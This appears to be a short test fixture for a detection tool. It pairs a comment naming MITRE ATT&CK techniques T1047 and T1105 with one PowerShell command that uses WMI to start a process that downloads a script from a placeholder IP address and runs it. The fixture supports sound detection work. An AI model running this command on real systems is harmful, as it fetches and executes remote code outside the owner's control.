# expect: T1047 T1105
Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'powershell -c "IEX (iwr http://203.0.113.19/c -UseBasicParsing)"' }
